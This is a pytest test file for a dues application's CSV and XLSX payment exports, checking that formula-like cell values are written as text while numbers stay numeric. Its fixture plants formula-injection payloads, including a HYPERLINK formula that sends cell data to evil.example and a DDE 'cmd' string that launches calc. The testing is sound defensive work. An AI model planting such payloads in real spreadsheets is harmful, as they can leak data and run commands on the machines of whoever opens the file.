"""Exports cannot carry formulas: a cell that a spreadsheet would run (starting with =, +, -,
@, a tab or a carriage return) is written as text, while numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from kota.dues.factories import FeeScheduleFactory
from kota.dues.models import Invoice
from kota.dues.services import issue_invoices
from kota.members.tests.test_edit import form_data
from kota.test import client_for

pytestmark = pytest.mark.django_db
PLANTED = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.fixture
def planted(client, personas):
    """A focal point names their member with a formula; a bank reference carries another."""
    FeeScheduleFactory(year=2026, fee="1000")
    issue_invoices(year=2026, today=datetime.date(2026, 1, 15))
    focal_point = client_for(client, personas.surabaya)
    response = focal_point.post(
        "/members/surabaya/edit/", form_data(personas.surabaya_city, name=PLANTED)
    )
    assert response.status_code == 302
    client.logout()
    invoice = Invoice.objects.get(dues__member=personas.surabaya_city)
    for reference in ("+1+cmd|' /C calc'!A0", "@SUM(1+1)", "\tTAB", "\rRET", "-2+3"):
        invoice.record_payment(
            amount="10",
            currency="USD",
            paid_on=datetime.date(2026, 2, 1),
            method="bank_transfer",
            reference=reference,
        )
    return client_for(client, personas.secretariat)


def test_a_csv_export_writes_formulas_as_text(planted):
    text = planted.get("/dues/export/payments.csv?year=2026").content.decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text)))
    column = {name: n for n, name in enumerate(header)}
    assert {row[column["member"]] for row in rows} == {"'" + PLANTED}
    assert sorted(row[column["reference"]] for row in rows) == sorted(
        ["'+1+cmd|' /C calc'!A0", "'@SUM(1+1)", "'\tTAB", "'\rRET", "'-2+3"]
    )
    assert {row[column["amount"]] for row in rows} == {"10.000"}


def test_an_xlsx_export_holds_no_formula_and_keeps_numbers_numbers(planted):
    response = planted.get("/dues/export/payments.xlsx?year=2026")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    members = {row[header.index("member")].value for row in sheet.iter_rows(min_row=2)}
    assert members == {"'" + PLANTED}
    amounts = [row[header.index("amount")] for row in sheet.iter_rows(min_row=2)]
    assert {(cell.data_type, Decimal(str(cell.value))) for cell in amounts} == {("n", 10)}


def test_a_negative_number_stays_a_number(client, personas):
    FeeScheduleFactory(year=2026, fee="1000")
    issue_invoices(year=2026, today=datetime.date(2026, 1, 15))
    Invoice.objects.update(amount=Decimal("-5"))  # a credit balance, as a number
    staff = client_for(client, personas.secretariat)
    text = staff.get("/dues/export/invoices.csv?year=2026").content.decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert {row[header.index("amount")] for row in rows} == {"-5.000"}
    sheet = load_workbook(io.BytesIO(staff.get("/dues/export/invoices.xlsx?year=2026").content))
    amounts = {row[header.index("amount")].value for row in sheet.active.iter_rows(min_row=2)}
    assert amounts == {-5}
